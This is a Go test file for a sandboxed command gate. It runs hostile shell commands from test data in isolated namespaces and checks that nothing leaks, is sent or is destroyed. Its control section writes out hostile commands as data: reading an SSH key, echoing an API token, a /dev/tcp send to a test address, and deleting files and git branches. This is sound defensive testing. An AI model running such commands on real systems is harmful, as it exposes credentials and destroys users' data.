package main

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"mvdan.cc/sh/v3/syntax"

	"ua/internal/common/prog"
	"ua/internal/common/verdict"
	"ua/internal/test/scripttest"
)

var whole = flag.Bool("whole", false, "run all hostile commands that run unasked, no sample")

// canaryUser runs what is hostile: an ordinary user.
const canaryUser = 1000

// canaryChild is set in the test's process that has namespaces of its own.
const canaryChild = "UA_CANARY_CHILD"

// A canary is a place with all that a command must not harm, and a home that is thrown away.
type canary struct {
	t    *testing.T
	dir  string // holds fresh, which is copied to now for each command
	bin  string
	uid  int
	said string // by the last command
}

// TestCanaries runs hostile commands for real, in the sandbox and profile of their verdict, of
// those that are let run unasked with a person there: nothing is written outside of the
// workspace, no secret of the home comes out, nothing is sent, and of 1,000 hostile commands
// fewer than three lose a file of the workspace.
func TestCanaries(t *testing.T) {
	if os.Getenv(canaryChild) == "" {
		scripttest.Need(t, "unshare", "ip", "git")
		args := []string{"--net", "--mount", "--pid", "--ipc", "--fork", "--mount-proc", "--kill-child"}
		if os.Geteuid() != 0 {
			args = append(args, "--user", "--map-current-user", "--keep-caps")
		}
		if out, err := exec.Command("unshare", append(args, "true")...).CombinedOutput(); err != nil {
			scripttest.Skip(t, scripttest.Refused, "no namespaces: %s", out)
		}
		bin := scripttest.Bin(t)
		cmd := exec.Command("unshare", append(append(args, os.Args[0]), "-test.run=^TestCanaries$",
			"-test.v", fmt.Sprint("-whole=", *whole))...)
		cmd.Env = append(os.Environ(), canaryChild+"=1", "UA_TEST_BIN="+bin)
		out, err := cmd.CombinedOutput()
		if t.Log(string(out)); err != nil {
			t.Error(err)
		}
		return
	}
	c := newCanary(t)
	c.control()
	t.Setenv("HOME", "/home/u")
	g := gateWith(&prog.Env{Stderr: os.Stderr}, options{ask: true, cwd: filepath.Join(c.dir,
		"now/work")}, policyOf(t))
	rows, all, ran, lost, missing := 0, 0, 0, 0, 0
	files, _ := filepath.Glob("internal/classify/testdata/*hostile.tsv")
	for _, file := range files {
		text, _ := os.ReadFile(file)
		for line := range strings.Lines(string(text)) {
			_, command, ok := strings.Cut(strings.TrimSuffix(line, "\n"), "\t")
			if rows++; !ok || strings.HasPrefix(line, "#") || !*whole && rows%32 != 0 {
				continue
			}
			all++
			command = strings.ReplaceAll(command, "⏎", "\n")
			v, err := g.decide(&call{command: command}, nil, nil)
			if err != nil || v.Decision != verdict.Allow {
				continue
			}
			ran++
			harm, loss := c.run(command, "--profile", string(v.Profile))
			if strings.Contains(c.said, "command not found") {
				missing++
			}
			if harm != "" {
				t.Errorf("%s: %s: %s: %s", filepath.Base(file), v.Rule, harm, command)
			}
			if loss != "" {
				lost++
				t.Logf("%s: %s: %s: %s", filepath.Base(file), v.Rule, loss, command)
			}
		}
	}
	c.readers()
	t.Logf("of %d hostile commands %d ran unasked, %d of them without a program that is missing here",
		all, ran, missing)
	if ran < 10 || lost*1000 > all*3 {
		t.Errorf("of %d hostile commands %d ran unasked and %d lost files", all, ran, lost)
	}
}

// readers runs golden commands that a hook allows unasked, as they are or, where it says so, in
// the sandbox: they change nothing, show no secret and send nothing.
func (c *canary) readers() {
	text, err := os.ReadFile(goldenFile)
	if err != nil {
		c.t.Fatal(err)
	}
	rows := 0
	for line := range strings.Lines(string(text)) {
		verdicts, command, _ := strings.Cut(strings.TrimSuffix(line, "\n"), "\t")
		letter := verdicts[len(verdicts)-1]
		if letter != 'a' && letter != 'r' {
			continue
		}
		if rows++; !*whole && rows%4 != 0 {
			continue
		}
		quoted, err := syntax.Quote(strings.ReplaceAll(command, "⏎", "\n"), syntax.LangBash)
		if err != nil {
			c.t.Fatal(err)
		}
		var options []string
		if letter == 'r' {
			options = []string{"--profile", "read-only"}
		}
		harm, loss := c.run("timeout -k 1 3 bash -c "+quoted+" </dev/null; true", options...)
		if harm+loss != "" {
			c.t.Errorf("a hook allows what harms: %s:%s: %s", harm, loss, command)
		}
	}
	if c.t.Logf("%d golden commands that a hook allows", rows); rows < 100 {
		c.t.Error("hardly any")
	}
}

func newCanary(t *testing.T) *canary {
	dir, err := os.MkdirTemp("", "ua-canary")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	c := &canary{t: t, dir: dir, bin: filepath.Join(dir, "bin"), uid: os.Getuid()}
	if c.uid == 0 {
		c.uid = canaryUser
	}
	out, err := exec.Command("sh", "-c", `set -e; cp -r "$1" "$2/bin"; chmod 755 "$2"
mkdir "$2/fresh"; chown "$3" "$2" "$2/fresh"; ip link set lo up
ip route add local 192.0.0.0/2 dev lo; ip route add local 0.0.0.0/1 dev lo`, "sh",
		scripttest.Bin(t), dir, fmt.Sprint(c.uid)).CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	c.as("", `set -e; cd fresh
mkdir -p home/.ssh home/.aws home/docs other/src work/src work/data work/docs
for f in home/.ssh/id_rsa home/.aws/credentials home/.netrc home/.pgpass home/.bash_history; do
	echo "password SECRETMARK" >$f; done
for f in home/.bashrc home/.profile home/.gitconfig home/docs/letter.txt other/src/main.go; do
	echo "# precious" >$f; done
cd work; git init -q -b main; git config user.email u@example.org; git config user.name u
for f in README.md main.go Makefile notes.txt package.json src/app.py src/util.js data/in.csv \
	docs/guide.md file f x a.txt b.txt out.txt config.yml; do echo "precious" >$f; done
git add -A; git commit -qm one; git branch feature; git branch dev; git tag v1
echo changed >notes.txt; echo new >draft.txt`, false)
	return c
}

// as runs a script as the canaries' user in dir, where hostile inside the sandbox.
func (c *canary) as(dir, script string, hostile bool, options ...string) string {
	ctx, stop := context.WithTimeout(context.Background(), 20*time.Second)
	defer stop()
	cmd := exec.CommandContext(ctx, "bash", "-c", script)
	if hostile {
		cmd = exec.CommandContext(ctx, filepath.Join(c.bin, "ua-sandbox"), append(options, "--quiet",
			"--strict", "--cpu", "4s", "--mem", "1G", "--pids", "100", "--fsize", "10M", "--",
			"timeout", "-k", "1", "5", "bash", "-c", script)...)
	}
	cmd.Dir = filepath.Join(c.dir, dir)
	home := filepath.Join(c.dir, "now/home")
	cmd.Env = []string{"HOME=" + home, "PATH=" + c.bin + ":/usr/local/bin:/usr/bin:/bin", "USER=u",
		"API_TOKEN=SECRETMARK0123456789abcdef", "LANG=C.UTF-8"}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if os.Getuid() == 0 {
		cmd.SysProcAttr.Credential = &syscall.Credential{Uid: uint32(c.uid), Gid: uint32(c.uid)}
	}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr, cmd.WaitDelay = &out, &out, time.Second
	if err := cmd.Run(); err != nil && !hostile {
		c.t.Fatalf("%v: %s", err, out.Bytes())
	}
	return out.String()
}

// named are words of a command that may be files of the workspace: those are laid there.
var named = regexp.MustCompile(`\b[A-Za-z][A-Za-z0-9_-]*(/[A-Za-z0-9_-]+)*\.[a-z][a-z0-9]{0,4}\b`)

// run runs a command in the sandbox, and says in words what it did to what is outside, and what
// it lost in the workspace.
func (c *canary) run(command string, options ...string) (harm, loss string) {
	c.as("", `rm -rf now && cp -a fresh now`, false)
	for _, name := range named.FindAllString(command, 20) {
		file := filepath.Join(c.dir, "now/work", name)
		if _, err := os.Lstat(file); err != nil && os.MkdirAll(filepath.Dir(file), 0o777) == nil {
			os.WriteFile(file, []byte("precious\n"), 0o666)
		}
	}
	if os.Getuid() == 0 {
		exec.Command("chown", "-R", fmt.Sprint(c.uid), filepath.Join(c.dir, "now/work")).Run()
	}
	outside, workspace, sent := c.files("home", "other"), c.files("work"), c.packets()
	out := c.as("now/work", command, len(options) > 0, options...)
	if c.said = out; strings.Contains(out, "refuses to run") {
		c.t.Fatal(out)
	}
	if strings.Contains(out, "SECRETMARK") {
		harm = "a secret came out"
	}
	if now := c.files("home", "other"); len(now) != len(outside) || changed(outside, now) != "" {
		harm = "outside was changed: " + changed(outside, now)
	}
	if now := c.packets(); now != sent {
		harm = "something was sent"
	}
	now := c.files("work")
	for name, text := range workspace {
		if strings.HasPrefix(name, "work/.git/") && !strings.HasPrefix(name, "work/.git/refs/heads/") {
			continue
		}
		if text != "" && now[name] == "" ||
			name == "work/notes.txt" && strings.Contains(now[name], "precious") {
			loss += " " + name
		}
	}
	return harm, loss
}

// changed returns the first name that is not the same in both.
func changed(before, now map[string]string) string {
	for name, text := range before {
		if now[name] != text {
			return name
		}
	}
	for name := range now {
		if _, was := before[name]; !was {
			return name
		}
	}
	return ""
}

// files returns the texts of all files below the folders; only regular ones have a text.
func (c *canary) files(folders ...string) map[string]string {
	list := map[string]string{}
	now := filepath.Join(c.dir, "now")
	for _, folder := range folders {
		filepath.Walk(filepath.Join(now, folder), func(path string, info os.FileInfo, err error) error {
			if name, _ := filepath.Rel(now, path); err == nil && !info.IsDir() {
				list[name] = ""
				if info.Mode().IsRegular() {
					text, _ := os.ReadFile(path)
					list[name] = string(text)
				}
			}
			return nil
		})
	}
	return list
}

// packets returns the loopback's counters: outside of the sandbox all addresses are on it, so
// they tell of every packet.
func (c *canary) packets() string {
	text, _ := os.ReadFile("/proc/net/dev")
	_, lo, _ := strings.Cut(string(text), "lo:")
	lo, _, _ = strings.Cut(lo, "\n")
	return lo
}

// control has a command outside of the sandbox harm each canary, to see that they tell.
func (c *canary) control() {
	for command, want := range map[string]string{
		"echo x >>~/.bashrc": "outside", "echo x >~/new": "outside",
		"rm ../other/src/main.go": "outside",
		"cat ~/.ssh/id_rsa":       "secret", "echo $API_TOKEN": "secret",
		"(echo >/dev/tcp/203.0.113.9/4444) 2>/dev/null; true": "sent",
		"rm main.go": "main.go", ": >data/in.csv": "in.csv", "git checkout -q notes.txt": "notes.txt",
		"ln -sf /dev/null README.md": "README.md", "git branch -qD dev": "heads/dev",
		"echo x >new; true": "",
	} {
		harm, loss := c.run(command)
		if !strings.Contains(harm+loss, want) || want == "" && harm+loss != "" {
			c.t.Fatalf("%s: %q %q", command, harm, loss)
		}
	}
}
